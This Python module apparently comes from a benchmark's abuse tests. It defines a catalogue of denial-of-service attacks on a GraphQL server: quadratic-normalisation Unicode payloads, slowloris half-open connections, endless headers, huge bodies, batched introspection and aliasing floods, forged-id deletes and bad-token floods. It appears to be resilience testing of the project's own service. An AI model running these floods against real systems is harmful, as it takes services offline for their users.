"""The attacks: each does what it can for some seconds, on some connections at once."""

import asyncio
import time
from collections import Counter
from collections.abc import Callable, Coroutine, Iterator
from contextlib import suppress
from itertools import count
from typing import Any, NamedTuple

import orjson

from bench.abuse.target import HOST
from bench.client import post

CONNECTIONS, MOST_HALF_OPEN = 8, 1_500
CRAFTED = "a" + "\u0315\u0300" * 62_500  # to bring it into NFC takes the square of its length
FORGED = [f"prj_1_{number}" for number in range(900_000, 901_000)]
NAMES = "query($t: String) { org { spaces(filter: { nameContains: $t }) { totalCount } } }"
CREATE = "mutation($t: String!) { spaceCreate(input: { key: $t, name: $t }) { errors { code } } }"
DELETE = "mutation($ids: [ID!]!) { projectsDelete(input: { ids: $ids }) { errors { code } } }"
SCHEMA = "{{ {} }}".format(
    " ".join(
        f"a{n}: __schema {{ types {{ name fields {{ name args {{ name }} }} }} }}"
        for n in range(199)
    )
)
COUNTS = "{{ org {{ {} }} }}".format(
    " ".join(
        f'a{n}: users(filter: {{ nameContains: "zq{n}" }}) {{ totalCount }}' for n in range(150)
    )
)
PEOPLE = """{ org { users(first: 1000) { nodes { id key name createdAt
  groups(first: 20) { nodes { id key name } } } } } }"""
SAME = "query($ids: [ID!]!) { nodes(ids: $ids) { ... on Member { id key name } } }"
CREATES = "mutation {{ {} }}".format(
    " ".join(
        f'a{n}: spaceCreate(input: {{ key: "k{n}", name: "N{n}" }}) {{ errors {{ code }} }}'
        for n in range(50)
    )
)

Requests = Callable[[str], Iterator[bytes]]
Told = Counter[str]


class Attack(NamedTuple):
    """What is tried: the letter of its kind, a name, how, and whether that takes no token."""

    of: str
    name: str
    work: "Callable[[int, str, float, Told], Coroutine[Any, Any, None]]"
    by_outsiders: bool = False


def asking(text: str, variables: Callable[[int], Any] = lambda _: {}) -> Requests:
    """Return the requests of one operation, again and again."""

    def requests(token: str) -> Iterator[bytes]:
        for number in count():
            named = text.replace("NUMBER", str(number))
            yield post("/graphql", token, {"query": named, "variables": variables(number)})

    return requests


def flooding(requests: Requests, connections: int = CONNECTIONS) -> Any:
    """Return the attack by so many clients that ask as fast as they are answered."""

    async def client(port: int, token: str, until: float, told: Told) -> None:
        streams = None
        for request in requests(token):
            if time.monotonic() > until:
                break
            try:
                streams = streams or await asyncio.open_connection(HOST, port)
                streams[1].write(request)
                left = until - time.monotonic() + 5
                told[await asyncio.wait_for(_answer(streams[0]), left)] += 1
            except (OSError, asyncio.IncompleteReadError, TimeoutError) as error:
                told[type(error).__name__] += 1
                streams = None
                await asyncio.sleep(0.05)
        if streams is not None:
            streams[1].close()

    async def work(port: int, token: str, seconds: float, told: Told) -> None:
        until = time.monotonic() + seconds
        await asyncio.gather(*(client(port, token, until, told) for _ in range(connections)))

    return work


async def _answer(reader: asyncio.StreamReader) -> str:
    """Return the status of an answer, and the code of its first error."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = int(head.lower().partition(b"content-length:")[2].partition(b"\r\n")[0] or 0)
    body = await reader.readexactly(length)
    code = body.partition(b'"code":"')[2].partition(b'"')[0].decode()
    return f"{head.split()[1].decode()} {code}".strip()


def pouring(parts: Callable[[], Iterator[bytes]], connections: int = CONNECTIONS) -> Any:
    """Return the attack by so many clients that send these parts, and read only at the end."""

    async def client(port: int, until: float, told: Told) -> None:
        while time.monotonic() < until:
            reader, writer = await asyncio.open_connection(HOST, port)
            with suppress(OSError):
                for part in parts():
                    if time.monotonic() > until or reader.at_eof() or writer.is_closing():
                        break
                    writer.write(part)
                    await asyncio.wait_for(writer.drain(), 5)
            told[await _status(reader)] += 1
            writer.close()

    async def work(port: int, _token: str, seconds: float, told: Told) -> None:
        until = time.monotonic() + seconds
        await asyncio.gather(*(client(port, until, told) for _ in range(connections)))

    return work


async def _status(reader: asyncio.StreamReader) -> str:
    try:
        line = await asyncio.wait_for(reader.readline(), 1)
    except (OSError, TimeoutError) as error:
        return type(error).__name__
    return line.split()[1].decode() if line else "closed"


async def _unread(port: int, token: str, seconds: float, told: Told) -> None:
    """Ask for much on many connections, and read none of it."""
    request = post("/graphql", token, {"query": PEOPLE})
    until = time.monotonic() + seconds
    writers = list[asyncio.StreamWriter]()
    while time.monotonic() < until:
        _, writer = await asyncio.open_connection(HOST, port, limit=1024)
        writer.write(request * 8)
        writers.append(writer)
        told["sent"] += 8
        await asyncio.sleep(0.1)
    for writer in writers:
        writer.close()


async def _half_open(port: int, _token: str, seconds: float, told: Told) -> None:
    """Hold as many connections as there are to be had, each with a part of a header."""
    until, writers = time.monotonic() + seconds, list[asyncio.StreamWriter]()
    while time.monotonic() < until:
        if len(writers) < MOST_HALF_OPEN:
            try:
                _, writer = await asyncio.open_connection(HOST, port)
            except OSError as error:
                told[type(error).__name__] += 1
            else:
                writers.append(writer)
                writer.write(b"POST /graphql HTTP/1.1\r\nHost: x\r\nA: ")
                told["opened"] += 1
        await asyncio.sleep(0.002)
    for writer in writers:
        writer.close()


def _endless_header() -> Iterator[bytes]:
    yield b"GET /graphql HTTP/1.1\r\nX: "
    while True:
        yield b"x" * 65_536


def _headers_without_end() -> Iterator[bytes]:
    yield b"GET /graphql HTTP/1.1\r\n"
    while True:
        yield b"A: b\r\n" * 10_000


def _long_body(_token: str) -> Iterator[bytes]:
    body = b"[" * 1_000_000
    head = f"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
    while True:
        yield head.encode() + b"Content-Type: application/json\r\n\r\n" + body


def _without_token(_token: str) -> Iterator[bytes]:
    while True:
        yield post("/graphql", "eyJhbGciOiJIUzI1NiJ9.e30.AAAA", {"query": "{ org { key } }"})


MANY_VALUES = orjson.loads(b"[" + b",".join([b"[]"] * 200_000) + b"]")
ATTACKS = (
    Attack("a", "crafted text in a filter", flooding(asking(NAMES, lambda _: {"t": CRAFTED}))),
    Attack("a", "crafted text as a name", flooding(asking(CREATE, lambda _: {"t": CRAFTED}))),
    Attack("a", "many values", flooding(asking("{ org { key } }", lambda _: {"v": MANY_VALUES}))),
    Attack("b", "endless header", pouring(_endless_header), by_outsiders=True),
    Attack("b", "headers without end", pouring(_headers_without_end), by_outsiders=True),
    Attack("b", "half-open connections", _half_open, by_outsiders=True),
    Attack("b", "long bodies", flooding(_long_body), by_outsiders=True),
    Attack("c", "199 times the schema", flooding(asking(SCHEMA))),
    Attack(
        "d",
        "one id a thousand times",
        flooding(asking(SAME, lambda _: {"ids": ["mem_1_5"] * 1_000})),
    ),
    Attack("d", "unread answers", _unread),
    Attack("e", "150 counts of filtered people", flooding(asking(COUNTS))),
    Attack("e", "people with their groups", flooding(asking(PEOPLE))),
    Attack("f", "ever new documents", flooding(asking("{ org { aNUMBER: key } }"))),
    Attack("g", "a thousand forged ids", flooding(asking(DELETE, lambda _: {"ids": FORGED}))),
    Attack("g", "50 changes without a right", flooding(asking(CREATES))),
    Attack("h", "as fast as it goes", flooding(asking("{ org { key } }"), 32)),
    Attack("h", "bad tokens", flooding(_without_token, 32), by_outsiders=True),
)
